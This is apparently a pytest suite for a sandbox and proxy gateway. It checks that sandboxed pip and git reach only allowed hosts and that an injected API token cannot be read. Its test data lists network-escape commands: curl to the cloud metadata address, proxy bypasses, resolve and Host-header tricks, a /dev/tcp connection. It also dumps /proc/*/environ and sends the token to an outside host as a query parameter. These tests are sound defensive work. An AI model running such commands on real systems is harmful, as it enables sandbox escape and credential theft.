"""The proxy and real programs in a real sandbox: they reach what is allowed, and nothing else by any trick."""

import io
import os
import shlex
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from aiohttp import web

from adapters.gateway.gateway import ProxyGateway
from adapters.sandbox.bubblewrap import Bubblewrap
from bot.ports.sandbox import Session
from tests.adapters.gateway.world import PLACE, VALUE, Hosts, gateway, goal, got, hosts, reach
from tests.contracts.sandbox import bash

pytestmark = pytest.mark.sandbox

PYTHON = os.path.join(sys.base_prefix, "bin", "python3")
INDEX, SECRET = "index.example", "secret.example"
WHEEL = "small_thing-1.0-py3-none-any.whl"


@pytest.fixture
async def index(tmp_path: Path) -> AsyncIterator[int]:
    """A package index and a git server for dumb clients, in plain."""
    repository = _repository(tmp_path)

    async def simple(_: web.Request) -> web.Response:
        return web.Response(text=f'<a href="/files/{WHEEL}">{WHEEL}</a>', content_type="text/html")

    async def files(_: web.Request) -> web.Response:
        return web.Response(body=_wheel())

    app = web.Application()
    app.router.add_get("/simple/small-thing/", simple)
    app.router.add_get("/files/{name}", files)
    app.router.add_static("/r.git", repository)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    yield runner.addresses[0][1]
    await runner.cleanup()


@pytest.fixture
async def made(tmp_path: Path) -> AsyncIterator[Hosts]:
    async with hosts(tmp_path, SECRET) as found:
        yield found


@pytest.fixture
async def opened(tmp_path: Path, made: Hosts, index: int) -> AsyncIterator[ProxyGateway]:
    vouch = (f"{INDEX}=127.0.0.1:{index}",)
    async with gateway(tmp_path, made, ("plain.example",), (SECRET,), vouch=vouch) as found:
        yield found


@pytest.fixture
async def session(tmp_path: Path, opened: ProxyGateway) -> AsyncIterator[Session]:
    allowed = reach(INDEX, SECRET, "plain.example", secret=SECRET)
    line = await opened.open(goal(), PLACE, allowed)
    folder = tmp_path / "workspaces"
    folder.mkdir()
    made = await Bubblewrap(folder, hidden=(str(tmp_path),)).open("G1", "workspace", line)
    yield made
    await made.close()


async def test_pip_and_git_get_what_they_need(session: Session) -> None:
    pip = (
        f"{PYTHON} -m pip install -q --no-cache-dir --disable-pip-version-check --target got "
        f"--trusted-host {INDEX} --index-url http://{INDEX}/simple/ small-thing && cat got/small_thing.py"
    )

    installed = await bash(session, pip)
    cloned = await bash(session, f"git clone -q http://{INDEX}/r.git && cat r/a.txt")

    assert installed.text == "THING = 1"
    assert cloned.text == "in the repository"


@pytest.mark.parametrize(
    "command",
    [
        "curl -sS -m 10 http://169.254.169.254/latest/meta-data/",
        "curl -sS -m 10 --noproxy '*' http://169.254.169.254/",
        "curl -sS -m 10 --noproxy '*' https://1.1.1.1/",
        "curl -sS -m 10 -L http://plain.example/redirect?to=http://127.0.0.1:22/",
        "curl -sS -m 10 --connect-to secret.example:443:127.0.0.1:22 https://secret.example/",
        "curl -sS -m 10 --resolve evil.example:80:127.0.0.1 --noproxy '*' http://evil.example/",
        "curl -sS -m 10 -p --proxy $http_proxy http://evil.example/",
        "curl -sS -m 10 -H 'Host: evil.example' http://plain.example/",
        "curl -sS -m 10 telnet://evil.example:25",
        "timeout 5 bash -c 'cat < /dev/tcp/1.1.1.1/80'",
        "git clone -q http://evil.example/r.git",
        "env -u http_proxy -u HTTP_PROXY curl -sS -m 10 http://plain.example/",
    ],
)
async def test_no_trick_reaches_anything_else(session: Session, made: Hosts, command: str) -> None:
    outcome = await bash(session, command, timeout_s=20)

    reached = [one for one in made.seen if not one.target.startswith("/redirect")]
    assert reached == []
    assert "instance" not in outcome.text


async def test_a_secret_works_and_cannot_be_read(
    session: Session, made: Hosts, opened: ProxyGateway
) -> None:
    used = await bash(
        session, f'curl -sS -H "Authorization: Bearer $API_TOKEN" https://{SECRET}/echo'
    )
    looked = await bash(session, "env; cat /proc/*/environ | tr '\\0' '\\n'; set")
    sent = await bash(session, 'curl -sS "http://plain.example/?got=$API_TOKEN"')

    values = [one.headers.get("authorization") for one in made.seen if one.encrypted]
    assert values == [f"Bearer {VALUE}"]
    assert "headway_" in used.text
    assert VALUE not in used.text + looked.text + sent.text
    assert all(VALUE not in one.target for one in made.seen if not one.encrypted)


async def test_what_was_refused_is_told(session: Session, opened: ProxyGateway) -> None:
    await bash(session, "curl -sS http://evil.example/; curl -sS https://evil.example/")

    assert [one.host for one in opened.refused("g1")] == ["evil.example:80", "evil.example:443"]


async def test_python_trusts_the_proxy(session: Session) -> None:
    code = (
        "import os, urllib.request as u; r = u.Request('https://secret.example/', "
        "headers={'X-Key': os.environ['API_TOKEN']}); print(u.urlopen(r).read().decode())"
    )

    outcome = await bash(session, f"{PYTHON} -c {shlex.quote(code)}")

    assert outcome.text == "GET 0"


def _wheel() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as wheel:
        info = "small_thing-1.0.dist-info"
        wheel.writestr("small_thing.py", "THING = 1\n")
        wheel.writestr(
            f"{info}/METADATA", "Metadata-Version: 2.1\nName: small-thing\nVersion: 1.0\n"
        )
        wheel.writestr(
            f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        wheel.writestr(f"{info}/RECORD", "")
    return file.getvalue()


def _repository(folder: Path) -> Path:
    work, bare = folder / "work", folder / "r.git"
    work.mkdir()
    (work / "a.txt").write_text("in the repository\n")
    git = ("git", "-c", "user.name=a", "-c", "user.email=a@b.example", "-C", str(work))
    for words in (("init", "-q"), ("add", "."), ("commit", "-q", "-m", "one")):
        subprocess.run([*git, *words], check=True)
    subprocess.run(["git", "clone", "-q", "--bare", str(work), str(bare)], check=True)
    subprocess.run(["git", "-C", str(bare), "update-server-info"], check=True)
    return bare


async def test_a_long_path_of_the_state_folder_and_of_temporary_files_is_no_hindrance(
    tmp_path: Path, made: Hosts, monkeypatch: pytest.MonkeyPatch
) -> None:
    long = tmp_path / ("long" * 25)
    long.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(long))

    async with gateway(long, made) as opened:
        line = await opened.open(goal(), PLACE, reach("plain.example"))
        folder = Path(line.socket).parent
        status, _ = await got(line, "http://plain.example/")

    assert status == 200
    assert not folder.exists()
